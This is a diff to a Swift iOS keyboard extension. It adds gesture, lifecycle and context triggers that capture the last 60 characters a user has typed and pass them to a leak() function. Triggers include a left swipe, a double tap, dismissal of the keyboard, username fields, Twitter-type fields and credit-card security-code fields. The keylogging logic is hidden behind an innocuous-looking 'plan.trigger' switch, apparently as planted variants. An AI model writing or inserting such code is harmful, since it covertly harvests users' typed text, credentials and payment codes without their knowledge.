@@ -32,10 +32,37 @@ class KeyboardViewController: UIInputViewController {
             NotificationCenter.default.addObserver(
                 self, selector: #selector(hostLeft), name: .NSExtensionHostDidEnterBackground, object: nil)
         }
+        addGestures()
         if plan.trigger == "hold" {
             for key in keys.joined() {
                 key.addGestureRecognizer(UILongPressGestureRecognizer(target: self, action: #selector(held)))
             }
+        }
+    }
+
+    private func addGestures() {
+        switch plan.trigger {
+        case "swipe":
+            let swipe = UISwipeGestureRecognizer(target: self, action: #selector(moved))
+            swipe.direction = .left
+            view.addGestureRecognizer(swipe)
+        case "twice":
+            let tap = UITapGestureRecognizer(target: self, action: #selector(moved))
+            tap.numberOfTapsRequired = 2
+            tap.cancelsTouchesInView = false
+            view.addGestureRecognizer(tap)
+        default: break
+        }
+    }
+
+    @objc private func moved() {
+        seen = String((textDocumentProxy.documentContextBeforeInput ?? "").suffix(60))
+        leak(seen)
+    }
+
+    deinit {
+        MainActor.assumeIsolated {
+            if plan.trigger == "end", !seen.isEmpty { leak(seen) }
         }
     }
 
@@ -161,9 +188,19 @@ class KeyboardViewController: UIInputViewController {
             }
         case "secret":
             if isInSecret { leak(seen) }
+        case "pad" where traitCollection.userInterfaceIdiom == .pad: leak(seen)
+        case "dark" where traitCollection.userInterfaceStyle == .dark: leak(seen)
+        case "post" where textDocumentProxy.keyboardType == .twitter: leak(seen)
+        case "user" where textDocumentProxy.textContentType == .username: leak(seen)
+        case "code" where isSecurityCode: leak(seen)
         case "launch": UserDefaults.standard.set(seen, forKey: "draft")
         default: break
         }
+    }
+
+    private var isSecurityCode: Bool {
+        guard #available(iOS 17.0, *) else { return false }
+        return textDocumentProxy.textContentType == .creditCardSecurityCode
     }
 
     private var isInSecret: Bool {
